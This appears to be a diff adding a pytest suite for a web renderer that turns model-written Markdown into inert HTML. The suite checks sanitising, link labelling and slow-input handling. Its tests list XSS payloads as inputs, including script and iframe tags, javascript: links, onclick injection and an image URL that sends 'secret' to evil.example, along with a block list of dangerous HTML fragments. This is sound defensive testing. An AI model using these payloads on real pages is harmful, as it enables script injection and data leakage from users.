@@ -1,0 +1,93 @@
+"""Markdown from a model is HTML that can do nothing but be read."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from adapters.web.render import LONGEST, render, to_html
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("**bold** ~~gone~~", '<p dir="auto"><strong>bold</strong> <s>gone</s></p>'),
+        ("# Title", '<h3 dir="auto">Title</h3>'),
+        ("one\ntwo", '<p dir="auto">one<br>\ntwo</p>'),
+        ("![plot](/files/abc123)", '<img src="/files/abc123" alt="plot" loading="lazy">'),
+        ("|a|\n|-:|\n|1|", '<td class="right" dir="auto">1</td>'),
+        ("```python\nx\n```", '<code class="language-python">x\n</code>'),
+    ],
+)
+def test_what_people_need(text: str, html: str) -> None:
+    assert html in to_html(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<iframe src=//evil.example>",
+        "[x](javascript:alert(1))",
+        "[x](data:text/html,<script>)",
+        "[x](vbscript:x)",
+        "[x](//evil.example)",
+        "[x](/login)",
+        "[x](\\\\evil)",
+        "<javascript:alert(1)>",
+        "![x](https://evil.example/?q=secret)",
+        "![x](//evil.example/x.png)",
+        "![x](/files/../metrics)",
+        "![x](data:image/png;base64,AAAA)",
+        "[![x](https://evil.example/a.png)](https://b.example)",
+        '```" onclick=alert(1)\nx\n```',
+        '<button data-card="abc234">Approve</button>',
+        '<form action="/cards/abc234"><input></form>',
+        '|a|\n|:-:" onclick=x|\n|1|',
+    ],
+)
+def test_what_nobody_may_do(text: str) -> None:
+    html = to_html(text).lower()
+    for bad in ("<script", "<iframe", "<button", "<form", "<input", 'src="http', 'src="//',
+                'src="data', 'href="java', 'href="data', 'href="vb', 'href="/login', 'href="//',
+                'href="\\', " onclick=alert(1)>", 'src="/files/..', "<img src=x"):  # fmt: skip
+        assert bad not in html
+
+
+def test_a_link_says_where_it_leads() -> None:
+    html = to_html("[https://bank.example](https://evil.example/?a=1&b=2)")
+    assert 'title="https://evil.example/?a=1&amp;b=2"' in html
+    assert 'rel="noopener nofollow noreferrer"' in html
+
+
+def test_a_picture_from_elsewhere_becomes_a_link() -> None:
+    assert to_html("![cat](https://cats.example/1.png)") == (
+        '<p dir="auto"><a href="https://cats.example/1.png" title="https://cats.example/1.png" '
+        'target="_blank" rel="noopener nofollow noreferrer">cat</a></p>\n'
+    )
+
+
+@given(st.text(alphabet="<>&\"'`*_[]()!|-#:/\\ \nax1=", max_size=60))
+def test_no_attribute_is_ever_forged(text: str) -> None:
+    for piece in to_html(text).lower().split("<")[1:]:
+        tag = piece.split(">")[0]
+        assert not any(f" on{name}=" in tag for name in ("a", "x"))
+        assert not tag.startswith(("script", "x", "a1"))
+
+
+async def test_a_hostile_length_is_shown_as_it_is() -> None:
+    began = time.perf_counter()
+    html = await render("[" * (LONGEST + 1))
+    assert html.startswith("<pre")
+    assert time.perf_counter() - began < 2
+
+
+@pytest.mark.parametrize("piece", ["[", "![", "*a _", "`", "> ", "|a|\n|-|\n", "<", "\\[x]("])
+def test_hostile_markdown_ends_in_time(piece: str) -> None:
+    began = time.perf_counter()
+    to_html(piece * (20_000 // len(piece)))
+    assert time.perf_counter() - began < 5
